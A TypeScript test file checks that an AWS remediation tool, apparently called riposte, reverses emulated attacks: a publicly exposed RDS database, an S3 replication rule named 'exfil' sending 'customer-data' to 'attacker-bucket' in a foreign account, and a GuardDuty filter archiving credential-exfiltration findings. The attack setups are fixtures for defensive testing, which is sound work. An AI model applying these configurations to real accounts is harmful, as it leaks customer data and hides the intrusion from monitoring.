import {
  CreateDetectorCommand,
  CreateFilterCommand,
  GetFilterCommand,
  GuardDutyClient,
} from "@aws-sdk/client-guardduty";
import {
  CreateDBInstanceCommand,
  DescribeDBInstancesCommand,
  ModifyDBInstanceCommand,
  RDSClient,
} from "@aws-sdk/client-rds";
import {
  CreateBucketCommand,
  GetBucketReplicationCommand,
  PutBucketReplicationCommand,
  PutBucketVersioningCommand,
  S3Client,
} from "@aws-sdk/client-s3";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ACCOUNT } from "../fixtures/events/cloudtrail.js";
import { LOGGING_SCENARIOS } from "../fixtures/events/scenarios/logging.js";
import { FOREIGN, STORAGE_EXPOSURE_SCENARIOS } from "../fixtures/events/scenarios/storage-exposure.js";
import { motoSuite } from "../remediation/harness.js";
import { motoAvailable } from "../support/moto.js";
import { type ServeLive, SUITE_OPTIONS, scenarioRecords, startServeLive } from "./serve.js";

/**
 * The exposure and suppression actions, end to end: a database made publicly accessible, a
 * bucket replicating to a foreign account beside its own disaster-recovery rule, and a GuardDuty
 * suppression rule, in the emulated account; the scenarios' records (with moto's detector id) go
 * to `riposte serve --remediate live` in one delivery; each incident waits for approval, is
 * approved through the dashboard's API, and once MITIGATED the database is private, only the
 * foreign replication rule is gone and the suppression rule is deleted (a second, selecting filter
 * kept). moto 5.2.1 has no GuardDuty IP sets, so the trusted-IP-list response is not run here
 * (covered with aws-sdk-client-mock in core/remediation/actions/guardduty-suppression.test.ts).
 */

const DATABASE = "production-db";
const BUCKET = "customer-data";
const SCENARIO_DETECTOR = "12abc34d567e8fa901bc2d34e56789f0";

describe.skipIf(!motoAvailable())(
  motoSuite("riposte serve --remediate live: exposure and suppression actions"),
  SUITE_OPTIONS,
  () => {
    let live: ServeLive;
    let rds: RDSClient;
    let s3: S3Client;
    let guardduty: GuardDutyClient;
    let detectorId: string;

    beforeAll(async () => {
      live = await startServeLive();
      rds = new RDSClient(live.aws());
      s3 = new S3Client({ ...live.aws(), forcePathStyle: true });
      guardduty = new GuardDutyClient(live.aws());

      // Arrange: the database made public…
      await rds.send(
        new CreateDBInstanceCommand({
          DBInstanceIdentifier: DATABASE,
          DBInstanceClass: "db.t3.micro",
          Engine: "mysql",
          AllocatedStorage: 20,
          MasterUsername: "admin_user",
          MasterUserPassword: "not-a-real-secret-1",
        }),
      );
      await rds.send(new ModifyDBInstanceCommand({ DBInstanceIdentifier: DATABASE, PubliclyAccessible: true }));
      // …the bucket replicated to the account's own copy and to a foreign account…
      await s3.send(new CreateBucketCommand({ Bucket: BUCKET }));
      await s3.send(new PutBucketVersioningCommand({ Bucket: BUCKET, VersioningConfiguration: { Status: "Enabled" } }));
      await s3.send(
        new PutBucketReplicationCommand({
          Bucket: BUCKET,
          ReplicationConfiguration: {
            Role: `arn:aws:iam::${ACCOUNT}:role/s3-replication`,
            Rules: [
              {
                ID: "dr",
                Priority: 1,
                Status: "Enabled",
                Filter: { Prefix: "" },
                DeleteMarkerReplication: { Status: "Disabled" },
                Destination: { Bucket: "arn:aws:s3:::customer-data-dr" },
              },
              {
                ID: "exfil",
                Priority: 2,
                Status: "Enabled",
                Filter: { Prefix: "" },
                DeleteMarkerReplication: { Status: "Disabled" },
                Destination: {
                  Bucket: "arn:aws:s3:::attacker-bucket",
                  Account: FOREIGN,
                  AccessControlTranslation: { Owner: "Destination" },
                },
              },
            ],
          },
        }),
      );
      // …and a GuardDuty suppression rule beside a filter that only selects findings.
      detectorId = (await guardduty.send(new CreateDetectorCommand({ Enable: true }))).DetectorId!;
      const criteria = (type: string) => ({ Criterion: { type: { Eq: [type] } } });
      await guardduty.send(
        new CreateFilterCommand({
          DetectorId: detectorId,
          Name: "quiet",
          Action: "ARCHIVE",
          Rank: 1,
          FindingCriteria: criteria("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS"),
        }),
      );
      await guardduty.send(
        new CreateFilterCommand({
          DetectorId: detectorId,
          Name: "portscans",
          Action: "NOOP",
          Rank: 2,
          FindingCriteria: criteria("Recon:EC2/Portscan"),
        }),
      );

      // The scenarios' records, in one delivery.
      await live.deliver(
        ...scenarioRecords(
          STORAGE_EXPOSURE_SCENARIOS,
          "rds-instance-public",
          "an instance modified to be publicly accessible",
        ),
        ...scenarioRecords(
          STORAGE_EXPOSURE_SCENARIOS,
          "s3-replication-external",
          "one of several rules replicates to a foreign account",
        ),
        ...scenarioRecords(
          LOGGING_SCENARIOS,
          "guardduty-suppressed",
          "a suppression rule created (CreateFilter action ARCHIVE)",
          { [SCENARIO_DETECTOR]: detectorId },
        ),
      );
    });
    afterAll(async () => {
      rds?.destroy();
      s3?.destroy();
      guardduty?.destroy();
      await live?.stop();
    });

    /** Wait for the incident's approval, approve it through the dashboard's API, and wait for the end. */
    async function approveAndSettle(detection: string, resource: string) {
      const waiting = await live.settle(detection, ["AWAITING_APPROVAL", "FAILED"], resource);
      expect(waiting.status).toBe("AWAITING_APPROVAL");
      await live.approve(waiting.id);
      const incident = await live.settle(detection, ["MITIGATED", "FAILED"], resource);
      expect(incident).toMatchObject({ id: waiting.id, status: "MITIGATED", mode: "live" });
      return incident;
    }

    it("rds-instance-public → approved rds-disable-public-access makes the database private", async () => {
      const incident = await approveAndSettle("rds-instance-public", DATABASE);

      expect(incident.actions).toMatchObject([
        {
          action: "rds-disable-public-access",
          outcome: "applied",
          calls: [
            { operation: "ModifyDBInstance", params: { DBInstanceIdentifier: DATABASE, PubliclyAccessible: false } },
          ],
        },
      ]);
      const after = await rds.send(new DescribeDBInstancesCommand({ DBInstanceIdentifier: DATABASE }));
      expect(after.DBInstances?.[0]?.PubliclyAccessible).toBe(false);
    });

    it("s3-replication-external → approved s3-remove-foreign-replication removes the foreign rule, keeps the account's own", async () => {
      const incident = await approveAndSettle("s3-replication-external", BUCKET);

      expect(incident.actions).toMatchObject([{ action: "s3-remove-foreign-replication", outcome: "applied" }]);
      const after = await s3.send(new GetBucketReplicationCommand({ Bucket: BUCKET }));
      expect(after.ReplicationConfiguration?.Rules?.map((rule) => rule.ID)).toEqual(["dr"]);
    });

    it("guardduty-suppressed → approved guardduty-delete-filter deletes the suppression rule, keeps the selecting filter", async () => {
      const incident = await approveAndSettle("guardduty-suppressed", "quiet");

      expect(incident.actions).toMatchObject([
        {
          action: "guardduty-delete-filter",
          outcome: "applied",
          calls: [{ operation: "DeleteFilter", params: { DetectorId: detectorId, FilterName: "quiet" } }],
        },
      ]);
      // moto 5.2.1 has no ListFilters: each filter is read by name (GuardDuty answers a missing one with BadRequestException).
      await expect(
        guardduty.send(new GetFilterCommand({ DetectorId: detectorId, FilterName: "quiet" })),
      ).rejects.toMatchObject({ name: "BadRequestException" });
      const kept = await guardduty.send(new GetFilterCommand({ DetectorId: detectorId, FilterName: "portscans" }));
      expect(kept.Action).toBe("NOOP");
    });
  },
);
